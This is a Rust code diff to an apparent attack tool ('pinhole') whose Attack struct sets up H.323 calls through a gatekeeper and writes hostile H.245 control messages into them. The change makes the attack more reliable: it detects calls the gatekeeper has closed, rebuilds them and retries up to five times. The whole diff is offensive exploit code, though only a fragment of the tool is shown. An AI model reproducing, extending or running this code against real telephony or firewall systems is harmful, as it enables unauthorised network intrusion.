@@ -2,6 +2,8 @@
 
 use std::io::Write as _;
 use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::Duration;
 
 use pinhole::net::now;
@@ -36,6 +38,8 @@ struct Call {
     _signalling: [TcpStream; 2],
     /// Both H.245 connections.
     control: [TcpStream; 2],
+    /// One of them has been closed by the gatekeeper.
+    over: Arc<AtomicBool>,
 }
 
 impl Attack {
@@ -80,11 +84,15 @@ impl Attack {
     /// Within a call of ours; one that has not survived is made again.
     fn control(&mut self, n: usize) {
         let message = framed(&self.hostile.control().octets);
-        for _ in 0..3 {
+        for _ in 0..5 {
             if self.own.is_none() {
                 self.own = self.call();
             }
             let Some(call) = &mut self.own else { continue };
+            if call.over.load(Ordering::Relaxed) {
+                self.own = None;
+                continue;
+            }
             let side = &mut call.control[n / 3 % 2];
             if side.write_all(&message).is_ok() {
                 return;
@@ -109,10 +117,11 @@ impl Attack {
         };
         let control = connect(self.sources[1], at).ok()?;
         let other = self.callee.control().ok()?;
+        let over = Arc::new(AtomicBool::new(false));
         for stream in [&caller, &called, &control, &other] {
-            swallow(stream);
+            swallow(stream, &over);
         }
-        Some(Call { _signalling: [caller, called], control: [control, other] })
+        Some(Call { _signalling: [caller, called], control: [control, other], over })
     }
 
     /// Somebody else registers meanwhile; nothing when that is not answered.
@@ -125,11 +134,13 @@ impl Attack {
     }
 }
 
-/// Reads whatever comes, so that nothing waits for us.
-fn swallow(stream: &TcpStream) {
+/// Reads whatever comes, so that nothing waits for us; when nothing more can come, the call is over.
+fn swallow(stream: &TcpStream, over: &Arc<AtomicBool>) {
     let mut stream = stream.try_clone().expect("another handle");
+    let over = Arc::clone(over);
     std::thread::spawn(move || {
         let _ = stream.set_read_timeout(None);
-        std::io::copy(&mut stream, &mut std::io::sink())
+        let _ = std::io::copy(&mut stream, &mut std::io::sink());
+        over.store(true, Ordering::Relaxed);
     });
 }
